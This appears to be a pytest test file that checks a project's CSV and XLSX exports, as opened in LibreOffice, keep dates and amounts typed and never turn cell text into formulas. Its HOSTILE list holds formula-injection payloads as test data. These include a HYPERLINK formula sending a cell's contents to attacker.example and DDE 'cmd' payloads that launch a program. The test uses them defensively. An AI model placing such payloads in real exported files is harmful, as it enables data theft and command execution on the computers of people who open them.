"""What LibreOffice makes of the files: dates and amounts are such, texts are texts, and nothing is a formula."""

import csv
import re
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass, replace
from io import BytesIO
from pathlib import Path
from random import Random
from zipfile import ZipFile

import pytest

from api.exports.formats import export_file, xlsx_file
from api.exports.formats.csv_file import harmless
from models.rules.exports.columns import Cell, CellKind, ExportColumn
from models.rules.exports.files import ExportFormat, ExportKind
from tests.behaviour.exports.files import Typed, letters, moment_of, sheets
from tests.machines.office import converted

COLUMNS = [ExportColumn(kind.lower(), kind) for kind in CellKind]
HOSTILE = [
    f"{before}{sign}1+1{after}"
    for sign in ("=", "+", "-", "@SUM", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    for before in (
        "",
        " ",
        "\u00a0",
        '"',
        "\t",
        "\n",
        "\r\n",
        "foo;",
        "foo; ",
        'a;"',
        "a\tb\n- c\n",
        "x,",
    )
    for after in ("", ";x", '"', "\n;")
] + [
    '=HYPERLINK("http://attacker.example/?"&A2,"Open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    'DDE;=DDE("cmd";"/C calc";"x");',
]
PLAIN = [
    "Größe & Straße <b>„Titel“</b>",
    "Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichen " * 6,
    "שלב ראשון: עיצוב האתר",
    "المرحلة الأولى: التصميم",
    "設計と開発 \U0001f680",
    'He said "yes", twice',
    "a\nb\nc",
    "_x000D_ stays what it is",
    "1E5 stays text",
    "it's",
]
READ_BY = {
    "English, by commas": "CSV:44,34,76,1,,1033,false,true",
    "German, by semicolons": "CSV:59,34,76,1,,1031,false,true",
    "by tabs, commas and semicolons": "CSV:9/44/59,34,76,1,,1033,false,true",
}


def row(text: str, amount: str = "1250.00", **others: Cell) -> list[Cell]:
    """A row with a value of each kind."""
    usual: dict[str, Cell] = {
        "TEXT": text,
        "NUMBER": 7,
        "TRUTH": True,
        "AMOUNT": amount,
        "DATE": "2026-11-23",
        "INSTANT": "2026-11-23T09:30:05.250Z",
    }
    return [(usual | others)[kind] for kind in CellKind]


def file_of(format: ExportFormat, rows: Sequence[Sequence[Cell]]) -> bytes:
    """A whole file."""
    file = export_file(format, ExportKind.MILESTONES, COLUMNS)
    parts = [file.begin(), *(file.add([each]) for each in rows), file.end()]
    file.close()
    return b"".join(parts)


@dataclass(frozen=True)
class Opened:
    """A file of CSV as LibreOffice has it: by letters the cells of each row, and whether any is a formula."""

    rows: list[dict[str, Typed]]
    formulas: int


def opened(files: dict[str, bytes], folder: Path, by: str) -> dict[str, Opened]:
    """By name, the files as LibreOffice has them."""
    source, there = folder / "source", folder / "there"
    source.mkdir()
    there.mkdir()
    for name, body in files.items():
        (source / f"{name}.csv").write_bytes(body)
    paths = converted(sorted(source.iterdir()), "xlsx:Calc MS Excel 2007 XML", there, by=by)
    return {path.stem: _opened(path.read_bytes()) for path in paths}


def _opened(book: bytes) -> Opened:
    (rows,) = sheets(book, formulas=True).values()
    found = [cell for row in rows for cell in row.values() if cell.type == "formula"]
    return Opened(rows, len(found))


@pytest.mark.parametrize("by", READ_BY)
def test_nothing_in_csv_is_a_formula_however_it_is_opened(by: str, tmp_path: Path) -> None:
    ours = file_of(ExportFormat.CSV, [row(text) for text in HOSTILE])
    careless = "\ufeffa,b\r\n" + "".join(f'{text},"x;{text};"\r\n' for text in ("=1+1", "=2*3"))
    there = opened({"ours": ours, "careless": careless.encode()}, tmp_path, READ_BY[by])
    assert there["careless"].formulas > 0, "they would be formulas if we let them"
    assert there["ours"].formulas == 0
    assert len(there["ours"].rows) > len(HOSTILE)


def test_dates_amounts_and_texts_of_csv_are_read_as_such(tmp_path: Path) -> None:
    texts = [*PLAIN, "=1+1"]
    ours = file_of(ExportFormat.CSV, [row(text, "999999999999.99") for text in texts])
    _, *rows = opened({"ours": ours}, tmp_path, READ_BY["English, by commas"])["ours"].rows
    for text, cells in zip(texts, rows, strict=True):
        said = dict(zip(CellKind, (cells[letter] for letter in letters(6)), strict=True))
        assert said[CellKind.TEXT] == replace(said[CellKind.TEXT], type="s", text=harmless(text))
        assert (said[CellKind.NUMBER].type, said[CellKind.NUMBER].text) == ("n", "7")
        assert (said[CellKind.TRUTH].type, said[CellKind.TRUTH].text) == ("b", "1")
        assert (said[CellKind.AMOUNT].type, said[CellKind.AMOUNT].text) == ("n", "999999999999.99")
        assert said[CellKind.DATE].type == said[CellKind.INSTANT].type == "n"
        assert moment_of(said[CellKind.DATE].text).isoformat() == "2026-11-23T00:00:00+00:00"
        assert moment_of(said[CellKind.INSTANT].text).isoformat() == "2026-11-23T09:30:05+00:00"


def test_libreoffice_reads_from_a_workbook_what_was_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx_file, "ROWS_OF_A_SHEET", 20)
    texts = [text for text in HOSTILE if "\t" not in text and "\r" not in text][:25] + PLAIN
    source = tmp_path / "book.xlsx"
    source.write_bytes(file_of(ExportFormat.XLSX, [row(text) for text in texts]))
    there = tmp_path / "there"
    there.mkdir()
    by_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1"
    converted([source], by_sheet, there)
    first, second = (_lines(there / f"book-{name}.csv") for name in ("Milestones", "Milestones 2"))
    assert first[0] == second[0] == [column.name for column in COLUMNS]
    assert len(first) == 1 + 20
    shown = ["7", "TRUE", "1,250.00", "2026-11-23", "2026-11-23 09:30:05"]
    assert first[1:] + second[1:] == [[text, *shown] for text in texts]


@pytest.mark.parametrize(
    ("amount", "type", "style"),
    [
        ("1250.00", "", "#,##0.00"),
        ("1250", "", "#,##0"),
        ("0.125", "", "#,##0.000"),
        ("123456789012345", "", "#,##0"),
        ("9999999999999.99", "", "#,##0.00"),
        ("99999999999999.99", "inlineStr", "0"),
        ("90071992547409.93", "inlineStr", "0"),
        ("999999999999.9999", "inlineStr", "0"),
    ],
)
def test_an_amount_is_a_number_as_long_as_a_spreadsheet_keeps_all_of_it(
    amount: str, type: str, style: str
) -> None:
    book = file_of(ExportFormat.XLSX, [row("a", amount)])
    cell = sheets(book)["Milestones"][1]["D"]
    assert cell == Typed(type, "General" if style == "0" else style, amount)


@pytest.mark.parametrize(
    "text", ["a\x0bb", "\x1f", "_x0041_", "a\r\nb", "<>&\"'", " ", "\ufffe", "\u200f", "𝒳" * 20_000]
)
def test_a_sheet_holds_whatever_text_there_is(text: str) -> None:
    cell = sheets(file_of(ExportFormat.XLSX, [row(text)]))["Milestones"][1]["A"]
    assert cell.type == "inlineStr"
    if len(text) < 20_000:
        assert cell.text == text
    else:
        assert cell.text.endswith("𝒳…")
        assert len(cell.text.encode("utf-16-le")) // 2 in (32_766, 32_767)


def test_a_day_that_a_spreadsheet_cannot_count_is_text() -> None:
    book = file_of(ExportFormat.XLSX, [row("a", DATE="1212-12-12")])
    assert sheets(book)["Milestones"][1]["E"] == Typed("inlineStr", "General", "1212-12-12")


def test_a_file_without_rows_has_its_head() -> None:
    assert [*sheets(file_of(ExportFormat.XLSX, []))["Milestones"][0]] == letters(6)
    assert len(file_of(ExportFormat.CSV, []).splitlines()) == 1
    assert file_of(ExportFormat.NDJSON, []) == b""


def test_every_sheet_has_a_head_that_stays(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_file, "ROWS_OF_A_SHEET", 2)
    book = file_of(ExportFormat.XLSX, [row(str(number)) for number in range(5)])
    found = sheets(book)
    assert list(found) == ["Milestones", "Milestones 2", "Milestones 3"]
    assert [len(rows) for rows in found.values()] == [3, 3, 2]
    assert panes(book) == [("1", "frozen")] * 3


def test_another_sheet_begins_before_one_is_larger_than_a_package_can_have(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    most, random = 20_000, Random(18)
    assert xlsx_file.BYTES_OF_A_SHEET + 10_000 < zipfile.ZIP64_LIMIT
    monkeypatch.setattr(xlsx_file, "BYTES_OF_A_SHEET", most)
    monkeypatch.setattr(zipfile, "ZIP64_LIMIT", most + 1_000)
    texts = [f"{n}" + random.choice("ü\x01&x") * random.randint(0, 900) for n in range(200)]
    file = export_file(ExportFormat.XLSX, ExportKind.MILESTONES, COLUMNS)
    book = b"".join([file.begin(), file.add([row(text) for text in texts]), file.end()])
    found = sheets(book)
    assert len(found) > 5
    assert [each["A"].text for rows in found.values() for each in rows[1:]] == texts


def panes(book: bytes) -> list[tuple[str, str]]:
    """Of each sheet, how many rows stay, and how."""
    with ZipFile(BytesIO(book)) as package:
        names = sorted(name for name in package.namelist() if name.startswith("xl/worksheets/"))
        parts = [package.read(name).decode() for name in names]
    return [
        found for part in parts for found in re.findall(r'<pane ySplit="(\d)".*state="(\w+)"', part)
    ]


def _lines(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))
